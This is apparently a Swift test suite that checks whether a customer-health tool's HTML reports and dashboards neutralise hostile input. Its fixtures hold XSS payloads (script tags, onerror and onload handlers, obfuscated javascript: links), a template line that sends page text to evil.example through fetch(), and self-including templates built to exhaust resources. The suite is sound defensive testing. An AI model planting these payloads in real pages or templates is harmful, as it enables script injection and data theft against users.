import Foundation
import Testing

/// A teammate's commit that tries to run script in the HTML csw writes (a name or a note
/// carrying markup, a hostile template) or to crash csw with a template that includes
/// itself (docs/SECURITY.md, "A hostile teammate"; docs/REPORTS.md, "Templates").
@Suite struct HostileTeammateHTMLTests {
    static let name = #"Metro <script>alert(1)</script>"><img src=x onerror=alert(2)>"#
    static let scriptNote = "<script>alert(4)</script> the alerts are <b onmouseover=alert(5)>noisy</b> & `late`"
    static let linkNote = "[ok](https://example.org) | See [x](javascript:alert(3)) and ![y](javascript:alert(6))"
    static let entityNote = #"<a href="jav&#x61;script:alert(7)">z</a> <svg/onload=alert(8)>"#

    /// A string as a JSON string literal.
    static func jsonString(_ s: String) -> String {
        "\"" + s.replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(of: "\"", with: "\\\"") + "\""
    }

    static func note(_ firstLine: String) -> String {
        "---\ndate: 2025-12-10\nchannel: email\ntype: complaint\n---\n\(firstLine)\n\nThe rest of the note.\n"
    }

    /// The attacker's commit: the payloads in HOSP_001's name and two feedback notes.
    static func injectPayloads(_ team: HostileTeam, name: String = Self.name, notes: [String] = [Self.scriptNote, Self.linkNote, Self.entityNote]) throws {
        try team.edit("customers/HOSP_001/profile.json", "\"Metro Health System\"", jsonString(name))
        for (i, line) in notes.enumerated() {
            try team.write("customers/HOSP_001/feedback/2025-12-1\(i)-payload-\(i).md", note(line))
        }
        try team.commitAndPush("Update Metro's name and notes")
    }

    /// What a real HTML parser (python3's html.parser) finds in a page: script elements
    /// (with their text), on* attributes, javascript:/vbscript: URLs, and the page's text.
    struct Scan: Decodable {
        let scripts: [String]
        let handlers: [String]
        let urls: [String]
        let text: String
    }

    static let scanner = #"""
    import sys, json, html.parser
    class Scanner(html.parser.HTMLParser):
        def __init__(self):
            super().__init__(convert_charrefs=True)
            self.scripts, self.handlers, self.urls, self.text, self.in_script = [], [], [], [], False
        def handle_starttag(self, tag, attrs):
            self.attrs(tag, attrs)
            if tag == "script":
                self.in_script = True
                self.scripts.append("")
        def handle_startendtag(self, tag, attrs):
            self.attrs(tag, attrs)
        def handle_endtag(self, tag):
            if tag == "script":
                self.in_script = False
        def attrs(self, tag, attrs):
            for name, value in attrs:
                if name.startswith("on"):
                    self.handlers.append("<%s %s=%s>" % (tag, name, value))
                url = "".join(c for c in (value or "") if ord(c) > 32).lower()
                if url.startswith("javascript:") or url.startswith("vbscript:"):
                    self.urls.append("<%s %s=%s>" % (tag, name, value))
        def handle_data(self, data):
            if self.in_script:
                self.scripts[-1] += data
            else:
                self.text.append(data)
    scanner = Scanner()
    scanner.feed(open(sys.argv[1], encoding="utf-8").read())
    scanner.close()
    print(json.dumps({"scripts": scanner.scripts, "handlers": scanner.handlers, "urls": scanner.urls, "text": "".join(scanner.text)}))
    """#

    static func scan(_ html: String, in scratch: URL) throws -> Scan {
        let page = scratch.appendingPathComponent("scan-\(UUID().uuidString).html")
        let script = scratch.appendingPathComponent("scan.py")
        try html.write(to: page, atomically: true, encoding: .utf8)
        try scanner.write(to: script, atomically: true, encoding: .utf8)
        let python = try TestServers.path(.python3)
        let result = try Spawn.run(python, [script.path, page.path], environment: ProcessInfo.processInfo.environment, directory: scratch.path, timeout: 60)
        #expect(result.status == 0, "\(result.stderr)")
        return try JSONDecoder().decode(Scan.self, from: Data(result.stdout.utf8))
    }

    /// No crash, no hang, nothing written outside, nothing run.
    static func expectContained(_ team: HostileTeam, _ outcome: CLITests.Outcome, _ what: String) {
        #expect(outcome.status != 124, "\(what) hung")
        #expect(outcome.status < 128, "\(what) crashed (status \(outcome.status)): \(outcome.stderr.suffix(400))")
        let escaped = team.escaped()
        #expect(escaped.files.isEmpty && !escaped.executed, "\(what) escaped: \(escaped.files)")
    }

    @Test(.needs(.git, .python3)) func namesAndNotesAreTextInTheHTMLReport() throws {
        let team = try HostileTeam()
        try Self.injectPayloads(team)
        #expect(try team.victimSyncs().status == 0)
        let report = try team.csw(["report", "HOSP_001", "--format", "html"], timeout: 30)
        Self.expectContained(team, report, "csw report --format html")
        #expect(report.status == 0, "\(report.stderr)")
        let scan = try Self.scan(report.stdout, in: team.scratch.url)
        #expect(scan.scripts.isEmpty, "script elements: \(scan.scripts)")
        #expect(scan.handlers.isEmpty, "event handlers: \(scan.handlers)")
        #expect(scan.urls.isEmpty, "script URLs: \(scan.urls)")
        #expect(!report.stdout.contains("href=\"javascript") && !report.stdout.contains("<a href"), "no link from the data")
        // The payloads are shown as the text they are.
        #expect(scan.text.contains(Self.name), "the name as text")
        #expect(scan.text.contains("<script>alert(4)</script> the alerts are <b onmouseover=alert(5)>noisy</b> & `late`"), "the note as text")
        #expect(scan.text.contains(Self.linkNote), "Markdown in a note is text")
        #expect(scan.text.contains(Self.entityNote), "a character reference in a note is text")
        // The Markdown and JSON reports are unchanged: they are not HTML.
        let markdown = try team.csw(["report", "HOSP_001"], timeout: 30)
        #expect(markdown.status == 0 && markdown.stdout.contains("# Customer health report: " + Self.name))
    }

    @Test(.needs(.git, .python3)) func namesAndNotesAreTextInTheDashboard() throws {
        let team = try HostileTeam()
        try Self.injectPayloads(team)
        #expect(try team.victimSyncs().status == 0)
        let board = try team.csw(["dashboard"], timeout: 60)
        Self.expectContained(team, board, "csw dashboard")
        #expect(board.status == 0, "\(board.stderr)")
        let folder = team.victim.appendingPathComponent(".csw/dashboard")
        for page in ["index.html", "customers/HOSP_001.html"] {
            let scan = try Self.scan(try String(contentsOf: folder.appendingPathComponent(page), encoding: .utf8), in: team.scratch.url)
            #expect(scan.scripts.allSatisfy { $0.contains("#selftest") && !$0.contains("alert") }, "\(page): only csw's own sort script: \(scan.scripts)")
            #expect(scan.handlers.isEmpty && scan.urls.isEmpty, "\(page): \(scan.handlers) \(scan.urls)")
            #expect(scan.text.contains(Self.name), "\(page) shows the name as text")
        }
    }

    /// The browser loads the report and no payload runs: each would mark the page's body.
    @Test(.needs(.git, .chromium)) func theReportRunsNoScriptInABrowser() throws {
        let team = try HostileTeam()
        let mark = { (how: String) in "document.body.setAttribute('data-pwned','\(how)')" }
        try Self.injectPayloads(team, name: "Metro <img src=x onerror=\"\(mark("img"))\"><svg onload=\"\(mark("svg"))\">",
                                notes: ["<script>\(mark("script"))</script> <iframe src=\"javascript:parent.\(mark("iframe"))\"></iframe>",
                                        "<img src=x onerror=\(mark("note-img"))> [x](javascript:\(mark("link")))"])
        #expect(try team.victimSyncs().status == 0)
        let report = try team.csw(["report", "HOSP_001", "--format", "html"], timeout: 30)
        Self.expectContained(team, report, "csw report --format html")
        #expect(report.status == 0, "\(report.stderr)")
        let page = team.scratch.url.appendingPathComponent("report.html")
        try report.stdout.write(to: page, atomically: true, encoding: .utf8)
        let chromium = try TestServers.path(.chromium)
        let flags = ["--headless", "--no-sandbox", "--disable-gpu", "--enable-logging=stderr", "--v=0", "--virtual-time-budget=2000"]
        let dom = try TestServers.run(chromium, flags + ["--dump-dom", "file://" + page.path])
        #expect(dom.output.contains("<h2>Executive summary</h2>"), "the page loaded: \(dom.output.suffix(400))")
        #expect(!dom.output.contains("data-pwned=\""), "a payload ran: \(dom.output.prefix(2000))")
        #expect(dom.output.contains("Metro &lt;img src=x onerror="), "the name is shown as text")
    }

    @Test(.needs(.git)) func aTemplateThatWritesScriptIsRefused() throws {
        let team = try HostileTeam()
        let exfiltrate = "<script>fetch('http://evil.example/?'+encodeURIComponent(document.body.innerText))</script>"
        try team.edit("templates/page.html.mustache", "</body>", exfiltrate + "\n</body>")
        try team.edit("templates/customer.html.mustache", "<h1>{{organization_name}}</h1>", "<h1 onclick=\"alert(1)\">{{organization_name}}</h1>")
        try team.edit("templates/report.md.mustache", "## Executive summary", "## Executive summary\n\n<a href=\"JaVaScRiPt&colon;alert(1)\">more</a>")
        try team.commitAndPush("Nicer templates")
        #expect(try team.victimSyncs().status == 0)

        let report = try team.csw(["report", "HOSP_001", "--format", "html"], timeout: 30)
        Self.expectContained(team, report, "csw report --format html")
        #expect(report.status == 2 && report.stdout.isEmpty, "refused, nothing written: \(report.status) \(report.stdout.prefix(200))")
        #expect(report.stderr.contains("templates/report.md.mustache") && report.stderr.contains("javascript:"), "\(report.stderr)")
        #expect(report.stderr.contains("allow_scripts"), "says how a team allows its own scripts: \(report.stderr)")

        try team.edit("templates/report.md.mustache", "<a href=\"JaVaScRiPt&colon;alert(1)\">more</a>", "[more](javascript:alert(1))")
        try team.commitAndPush("A Markdown link instead")
        #expect(try team.victimSyncs().status == 0)
        let page = try team.csw(["report", "HOSP_001", "--format", "html"], timeout: 30)
        #expect(page.status == 2 && page.stderr.contains("templates/page.html.mustache") && page.stderr.contains("<script>"), "\(page.stderr)")

        let board = try team.csw(["dashboard"], timeout: 60)
        Self.expectContained(team, board, "csw dashboard")
        #expect(board.status == 2 && board.stderr.contains("templates/customer.html.mustache") && board.stderr.contains("onclick"), "\(board.stderr)")
        #expect(!FileManager.default.fileExists(atPath: team.victim.appendingPathComponent(".csw/dashboard/index.html").path), "nothing written")

        // The team allows scripts in its own templates: explicitly, in csw.json. A Markdown
        // link to javascript: still loses its target.
        try team.edit("templates/customer.html.mustache", " onclick=\"alert(1)\"", "")
        try team.edit("csw.json", "\"format_version\": 1,", "\"format_version\": 1,\n  \"reports\": {\"allow_scripts\": true},")
        try team.commitAndPush("We want our analytics script")
        let announced = try team.victimSyncs()
        #expect(announced.status == 0 && (announced.stdout + announced.stderr).contains("reports"), "a pull that allows scripts is announced: \(announced.stdout)\(announced.stderr)")
        let allowed = try team.csw(["report", "HOSP_001", "--format", "html"], timeout: 30)
        #expect(allowed.status == 0 && allowed.stdout.contains(exfiltrate), "\(allowed.stderr)")
        #expect(allowed.stdout.contains("more") && !allowed.stdout.contains("href=\"javascript:"))
        #expect(try team.csw(["validate"], timeout: 30).status == 0, "csw.json's reports.allow_scripts is a documented setting")
    }

    static let recursive: [(what: String, files: [String: String])] = [
        ("a partial that includes itself", ["templates/customer.html.mustache": "<h1>{{organization_name}}</h1>\n{{> customer.html}}\n"]),
        ("a cycle a → b → a", ["templates/customer.html.mustache": "<h1>{{organization_name}}</h1>\n{{> a.html}}\n",
                                "templates/a.html.mustache": "<p>a</p>{{> b.html}}\n", "templates/b.html.mustache": "<p>b</p>\n{{#health_score}}{{> a.html}}{{/health_score}}\n"]),
        ("a self-include behind changed delimiters", ["templates/customer.html.mustache": "<h1>{{organization_name}}</h1>\n{{=<% %>=}}\n<%> customer.html %>\n"]),
        ("a partial named by the data", ["templates/customer.html.mustache": "<h1>{{organization_name}}</h1>\n{{>*partial}}\n"]),
        ("sections nested 50,000 deep", ["templates/customer.html.mustache": String(repeating: "{{#a}}", count: 50_000) + "x" + String(repeating: "{{/a}}", count: 50_000)]),
        ("partials that double 40 times", ["templates/customer.html.mustache": "{{> p0.html}}"].merging((0..<40).map { ("templates/p\($0).html.mustache", "{{> p\($0 + 1).html}}{{> p\($0 + 1).html}}") }) { a, _ in a }),
    ]

    @Test(.needs(.git), arguments: 0..<Self.recursive.count)
    func aRecursiveTemplateIsReportedNotACrash(case index: Int) throws {
        let (what, files) = Self.recursive[index]
        let team = try HostileTeam()
        for (path, text) in files { try team.write(path, text) }
        try team.commitAndPush("Include the summary partial")
        #expect(try team.victimSyncs().status == 0)

        let board = try team.csw(["dashboard"], timeout: 60)
        Self.expectContained(team, board, "csw dashboard with \(what)")
        #expect(board.status == 2 && board.stderr.contains("templates/") && board.stderr.contains(".mustache:"), "\(what): \(board.status) \(board.stderr.prefix(600))")
        #expect(!FileManager.default.fileExists(atPath: team.victim.appendingPathComponent(".csw/dashboard/index.html").path))

        let validate = try team.csw(["validate"], timeout: 60)
        Self.expectContained(team, validate, "csw validate with \(what)")
        #expect(validate.status == 1, "\(what): validate says \(validate.status)")
        #expect(validate.stdout.contains("error[CSW0802]") || validate.stdout.contains("error[CSW0801]"), "\(what): \(validate.stdout.prefix(600))")
        #expect(validate.stdout.contains("templates/") && validate.stdout.contains(".mustache:"), "located on the template: \(validate.stdout.prefix(600))")

        // Commands that do not use the broken template still run.
        #expect(try team.csw(["report", "HOSP_001"], timeout: 30).status == 0)
    }

    @Test(.needs(.git)) func aRecursiveReviewTemplateStopsReviewsNotTheRest() throws {
        let team = try HostileTeam()
        try team.write("templates/review.md.mustache", "{{% CONTENT_TYPE: TEXT }}\n# {{review_title}}\n{{> summary.md}}\n")
        try team.write("templates/summary.md.mustache", "{{% CONTENT_TYPE: TEXT }}\n{{executive_summary}}\n{{> review.md}}\n")
        try team.commitAndPush("A shared summary partial")
        #expect(try team.victimSyncs().status == 0)
        for arguments in [["review", "prepare", "HOSP_001", "--print"], ["review", "prepare", "HOSP_001"]] {
            let review = try team.csw(arguments, timeout: 30)
            Self.expectContained(team, review, "csw \(arguments.joined(separator: " "))")
            #expect(review.status == 2 && review.stderr.contains("templates/review.md.mustache:3:1: error: {{> summary.md}} leads back to this template (review.md → summary.md → review.md)"),
                    "\(review.stderr)")
        }
        let reviews = team.victim.appendingPathComponent("customers/HOSP_001/reviews")
        #expect(((try? FileManager.default.contentsOfDirectory(atPath: reviews.path)) ?? []).allSatisfy { !$0.hasPrefix("2025-12-15") }, "no review written")
        #expect(try team.csw(["report", "HOSP_001", "--format", "html"], timeout: 30).status == 0, "the report does not use them")
    }

    @Test(.needs(.git)) func sectionsThatMultiplyTheDataStopInsteadOfHanging() throws {
        let team = try HostileTeam()
        let nested = String(repeating: "{{#rows}}", count: 8) + "{{name}}" + String(repeating: "{{/rows}}", count: 8)
        try team.write("templates/dashboard.html.mustache", "<!doctype html><title>board</title>\n" + nested + "\n")
        try team.commitAndPush("A denser board")
        #expect(try team.victimSyncs().status == 0)
        let board = try team.csw(["dashboard"], timeout: 60)
        Self.expectContained(team, board, "csw dashboard with rows nested 8 deep")
        #expect(board.status == 2 && board.stderr.contains("templates/dashboard.html.mustache"), "\(board.status) \(board.stderr.prefix(400))")
    }
}
